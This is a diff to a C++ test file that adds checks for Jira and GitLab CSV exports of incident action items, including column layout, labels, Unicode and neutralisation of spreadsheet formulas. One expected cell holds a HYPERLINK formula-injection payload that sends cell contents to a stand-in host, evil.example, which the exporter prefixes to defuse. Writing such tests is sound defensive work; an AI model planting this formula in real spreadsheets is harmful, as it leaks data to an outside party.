@@ -259,6 +259,10 @@ TEST_CASE("exporters: golden files", "[export]") {
         }
         SECTION(std::string(base) + " csv") { check_golden(std::string(base) + ".csv", export_actions_csv(d)); }
         SECTION(std::string(base) + " ics") { check_golden(std::string(base) + ".ics", export_actions_ics(d, kNow)); }
+        SECTION(std::string(base) + " jira csv") { check_golden(std::string(base) + ".jira.csv", export_jira_csv(d)); }
+        SECTION(std::string(base) + " gitlab csv") {
+            check_golden(std::string(base) + ".gitlab.csv", export_gitlab_csv(d));
+        }
     }
 }
 
@@ -469,6 +473,56 @@ TEST_CASE("exporters: csv quoting and formula neutralisation", "[export]") {
     CHECK(r2[1][1] == "'=cmd");
     // No action items: just the header.
     CHECK(export_actions_csv(Document{}) == "Summary,Assignee,Due date,Priority,Status,Description\r\n");
+}
+
+TEST_CASE("exporters: jira and gitlab csv read back with their importers' columns", "[export]") {
+    Document rich = load_export_input("rich.json");
+    auto jira = parse_csv(export_jira_csv(rich));
+    REQUIRE(jira.size() == rich.action_items.size() + 1);
+    CHECK(jira[0] == std::vector<std::string>{"Summary", "Issue Type", "Status", "Priority", "Assignee", "Due date",
+                                              "Labels", "Labels", "Description"});
+    const std::vector<std::string> priorities = {"Highest", "High", "Medium", "Low", "Lowest", "Medium", "High"};
+    const std::vector<std::string> statuses = {"To Do", "In Progress", "To Do", "To Do", "Done", "Done", "To Do"};
+    for (size_t i = 0; i < rich.action_items.size(); ++i) {
+        const ActionItem& a = rich.action_items[i];
+        const auto& r = jira[i + 1];
+        INFO("item " << a.id);
+        REQUIRE(r.size() == 9);
+        CHECK(r[1] == "Task");
+        CHECK(r[2] == statuses[i]);
+        CHECK(r[3] == priorities[i]);
+        CHECK(r[5] == a.due);  // ISO yyyy-MM-dd, or empty
+        CHECK(r[6] == "hindsight-" + a.id);
+        CHECK(r[7] == "INC-4242");
+        CHECK(r[8].find("Hindsight item: hindsight-" + a.id) != std::string::npos);
+        for (const std::string& cell : r) {
+            INFO(cell);
+            if (!cell.empty()) CHECK(std::string("=+-@\t\r").find(cell[0]) == std::string::npos);
+        }
+    }
+    CHECK(jira[7][0].find("\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e") != std::string::npos);  // 日本語 kept
+    auto gitlab = parse_csv(export_gitlab_csv(rich));
+    REQUIRE(gitlab.size() == rich.action_items.size() + 1);
+    CHECK(gitlab[0] == std::vector<std::string>{"title", "description", "due_date"});
+    for (size_t i = 0; i < rich.action_items.size(); ++i) {
+        const auto& r = gitlab[i + 1];
+        REQUIRE(r.size() == 3);
+        CHECK(r[1].find("hindsight-" + rich.action_items[i].id) != std::string::npos);
+        CHECK(r[2] == rich.action_items[i].due);
+    }
+    CHECK(gitlab[1][0] == "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")");
+    // Labels cannot hold spaces or commas: an id or incident id with them still gives one label each.
+    Document d;
+    d.incident_id = "INC 9, east";
+    ActionItem a;
+    a.id = "ai 1,2";
+    a.title = "Проверить резервные копии";
+    d.action_items = {a};
+    auto r = parse_csv(export_jira_csv(d));
+    REQUIRE(r.size() == 2);
+    CHECK(r[1][0] == "Проверить резервные копии");
+    CHECK(r[1][6] == "hindsight-ai-1-2");
+    CHECK(r[1][7] == "INC-9--east");
 }
 
 TEST_CASE("exporters: ics is well formed, folded and injection-proof", "[export]") {
